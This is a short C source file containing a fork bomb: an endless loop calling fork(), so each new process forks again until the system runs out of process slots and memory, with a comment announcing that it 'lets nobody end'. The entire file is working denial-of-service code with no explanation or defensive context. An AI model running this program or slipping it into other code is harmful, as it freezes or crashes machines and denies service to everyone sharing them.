/* Forks as often as it may, and lets nobody end. */
#define _GNU_SOURCE
#include <unistd.h>

int main(void) {
    for (;;) {
        fork();
    }
}
